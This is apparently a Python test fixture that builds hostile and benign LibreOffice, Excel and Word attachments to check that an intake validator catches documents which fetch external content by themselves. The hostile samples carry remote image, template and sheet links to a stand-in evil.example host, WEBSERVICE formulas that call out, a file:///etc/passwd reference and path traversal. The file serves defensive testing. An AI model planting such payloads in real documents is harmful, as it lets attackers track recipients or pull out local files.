"""Texts and sheets of LibreOffice, and pictures inside documents, that fetch something from elsewhere by themselves."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

from tests.intake.attachments.files import DOCX, ODT, XLSX, Sent, docx, odt, xlsx

ODS = "application/vnd.oasis.opendocument.spreadsheet"
_NAMESPACES = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
    "meta": "urn:oasis:names:tc:opendocument:xmlns:meta:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
    "x": "http://www.w3.org/1999/xlink",
}
_AWAY = "http://evil.example/a"


def hostile_open_documents() -> Iterator[Sent]:
    """All of them."""
    for case, inside in (
        ("picture from elsewhere", f'<draw:image xlink:href="{_AWAY}.png"/>'),
        ("picture from a share", '<draw:image xlink:href="//evil.example/a.png"/>'),
        ("picture from a share of Windows", '<draw:image xlink:href="\\\\evil.example\\a.png"/>'),
        ("picture from the disk", '<draw:image xlink:href="file:///etc/passwd"/>'),
        ("picture from beside the document", '<draw:image xlink:href="../../secret.png"/>'),
        ("object from elsewhere", f'<draw:object xlink:href="{_AWAY}.odt"/>'),
        ("section from elsewhere", f'<text:section-source xlink:href="{_AWAY}.odt"/>'),
        ("picture by another prefix", f'<draw:image x:href="{_AWAY}.png"/>'),
        ("picture of a spelled scheme", '<draw:image xlink:href="&#104;ttp://evil.example/a.png"/>'),
        ("background from elsewhere", f'<style:background-image xlink:href=" {_AWAY}.png"/>'),
    ):
        yield Sent(case, "answer.odt", ODT, odt({"content.xml": content(inside)}))
    template = content(f'<meta:template xlink:href="{_AWAY}.ott"/>')
    yield Sent("open template from elsewhere", "answer.odt", ODT, odt({"meta.xml": template}))
    yield Sent("half a text", "answer.odt", ODT, odt({"content.xml": content("")[:-9]}))
    for case, inside in (
        ("sheet from elsewhere", f'<table:table-source xlink:href="{_AWAY}.ods"/>'),
        ("formula that asks elsewhere", '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)"/>'),
        ("cell of a sheet elsewhere", "<table:table-cell table:formula=\"of:=['http://evil.example/a.ods'#$A.B1]\"/>"),
    ):  # fmt: skip
        yield Sent(case, "table.ods", ODS, ods(inside))
    formula = '<?xml version="1.0"?><c><f>_xlfn.WEBSERVICE("http://evil.example/")</f></c>'
    yield Sent("formula of Excel", "table.xlsx", XLSX, xlsx({"xl/worksheets/sheet1.xml": formula}))
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{_AWAY}.png"/></svg>'
    yield Sent("drawing that fetches", "answer.docx", DOCX, docx({"word/media/image1.svg": drawing}))


def honest_open_documents() -> Iterator[Sent]:
    """What LibreOffice really writes: links to click, pictures of its own, where its template once lay."""
    inside = (
        '<text:a xlink:href="https://kursk.ru/">Сайт</text:a><draw:a xlink:href="mailto:a@kursk.ru"/>'
        '<draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Formula"/><text:a xlink:href="#Раздел"/>'
    )
    meta = content('<meta:template xlink:href="../../Templates/Ответ.ott" xlink:title="Ответ"/>')
    yield Sent("open text with links", "a.odt", ODT, odt({"content.xml": content(inside), "meta.xml": meta}))
    meta = content('<meta:template xlink:href="/C:/Шаблоны/Ответ.ott"/>')
    yield Sent("open text of a template", "a.odt", ODT, odt({"meta.xml": meta}))
    yield Sent("open sheet", "a.ods", ODS, ods('<table:table-cell table:formula="of:=SUM([.A1:.A3])"/>'))
    drawing = '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://kursk.ru/"><path d="M0 0"/></a><use href="#a"/></svg>'
    yield Sent("document with a drawing", "a.docx", DOCX, docx({"word/media/image1.svg": drawing}))


def content(inside: str) -> str:
    """A part that says this."""
    names = "".join(f' xmlns:{prefix}="{name}"' for prefix, name in _NAMESPACES.items())
    return f'<?xml version="1.0" encoding="UTF-8"?><office:document-content{names}>{inside}</office:document-content>'


def ods(inside: str, more: Mapping[str, bytes | str] | None = None) -> bytes:
    """A sheet of LibreOffice."""
    return odt({"content.xml": content(inside), **(more or {})}, first=ODS)
